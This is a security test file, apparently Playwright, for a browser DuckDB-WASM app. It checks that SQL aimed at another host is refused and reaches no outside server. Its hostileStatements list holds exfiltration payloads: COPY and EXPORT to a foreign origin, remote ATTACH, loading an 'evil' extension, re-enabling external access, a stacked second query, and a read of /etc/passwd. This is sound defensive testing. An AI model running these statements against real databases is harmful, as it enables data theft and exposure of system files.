import { listenForVisits, serveFolder } from '../tooling/static-server.mjs';
import { openForAutomation, queryAll } from './automation.ts';
import { dist, expect, test } from './fixtures.ts';

/** Statements that would read from, write to, or be opened for another host. */
function hostileStatements(origin: string): string[] {
  return [
    `SELECT * FROM read_csv('${origin}/read.csv')`,
    `SELECT * FROM read_csv_auto('${origin}/auto.csv')`,
    `SELECT * FROM read_text('${origin}/text.csv')`,
    `SELECT * FROM read_blob('${origin}/blob.csv')`,
    `SELECT * FROM '${origin}/bare.csv'`,
    `SELECT * FROM glob('${origin}/*')`,
    `SELECT * FROM read_parquet('${origin}/x.parquet')`,
    `SELECT * FROM read_json('${origin}/x.json')`,
    `CREATE TABLE taken AS SELECT * FROM read_csv('${origin}/create.csv')`,
    `COPY (SELECT 42 AS score) TO '${origin}/copy.csv'`,
    `COPY (SELECT 42 AS score) TO '${origin}/copy.parquet' (FORMAT parquet)`,
    `EXPORT DATABASE '${origin}/export'`,
    `ATTACH '${origin}/attach.db' AS away`,
    `ATTACH '${origin}/read-only.db' AS away (READ_ONLY)`,
    'INSTALL httpfs',
    'LOAD httpfs',
    'INSTALL json',
    'LOAD json',
    `INSTALL spatial FROM '${origin}/extensions'`,
    `LOAD '${origin}/evil.duckdb_extension.wasm'`,
    'SET enable_external_access=true',
    'RESET enable_external_access',
    'SET GLOBAL autoinstall_known_extensions=true',
    'SET autoload_known_extensions=true',
    `SET custom_extension_repository='${origin}/extensions'`,
    `SET allowed_directories=['${origin}/']`,
    `SET allowed_paths=['${origin}/allowed.csv']`,
    `SET temp_directory='${origin}/temp'`,
    'SET lock_configuration=false',
    'PRAGMA enable_external_access',
    `PRAGMA temp_directory='${origin}/pragma'`,
    `SELECT 1; SELECT * FROM read_csv('${origin}/second.csv')`,
    "SELECT * FROM read_text('/etc/passwd')",
  ];
}

/** INSTALL only takes a name down, in DuckDB-WASM; it is the LOAD after it that would fetch. */
const isRefusable = (statement: string) => !statement.startsWith('INSTALL');

/** Paths that statements which name the host reach where nothing holds them back. */
const arriving = ['read.csv', 'auto.csv', 'text.csv', 'blob.csv', 'bare.csv', 'create.csv'];

const withoutPolicy = (text: string) =>
  text.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');

/** Opens the third lock in the scripts on their way to the browser. */
const withOpenDatabase = (text: string) =>
  text.replaceAll('SET enable_external_access=false', 'SELECT 1');

test.use({ provokes: true });

test('the database answers, so that a refusal below is a refusal', async ({ page }) => {
  await openForAutomation(page);
  const [answer] = await queryAll(page, ['SELECT 41 + 1 AS answer']);
  expect(answer).toMatchObject({ ok: true });
});

test('hostile SQL becomes a Problem each time and reaches no other host', async ({
  page,
  stranger,
}) => {
  await openForAutomation(page);
  const statements = hostileStatements(stranger.origin);
  const outcomes = await queryAll(page, statements);
  const succeeded = statements.filter((_, i) => outcomes[i].ok);
  expect(succeeded.filter(isRefusable)).toEqual([]);
  expect(stranger.visits).toEqual([]);
  const [after] = await queryAll(page, ['SELECT 1 AS still_here']);
  expect(after.ok).toBe(true);
});

test('the locked database alone holds hostile SQL back, without the policy', async ({
  page,
  stranger,
}) => {
  const site = await serveFolder(dist, { rewrite: withoutPolicy });
  await openForAutomation(page, site.url);
  const [first] = await queryAll(page, ['SELECT 1', ...hostileStatements(stranger.origin)]);
  expect(first.ok).toBe(true);
  expect(stranger.visits).toEqual([]);
  await site.close();
});

test('the policy alone holds hostile SQL back, with the database open', async ({
  page,
  stranger,
}) => {
  const site = await serveFolder(dist, { rewrite: withOpenDatabase });
  await openForAutomation(page, site.url);
  const [first] = await queryAll(page, ['SELECT 1', ...hostileStatements(stranger.origin)]);
  expect(first.ok).toBe(true);
  expect(stranger.visits).toEqual([]);
  await site.close();
});

test('control: with neither the policy nor the locked database, the same SQL arrives', async ({
  page,
}) => {
  const host = await listenForVisits();
  const rewrite = (text: string) => withOpenDatabase(withoutPolicy(text));
  const site = await serveFolder(dist, { rewrite });
  await openForAutomation(page, site.url);
  const statements = hostileStatements(host.origin).filter((text) => text.includes(host.origin));
  await queryAll(page, statements);
  const paths = host.visits.map((visit) => visit.split('/')[1]);
  expect(paths).toEqual(expect.arrayContaining(arriving));
  await Promise.all([site.close(), host.close()]);
});
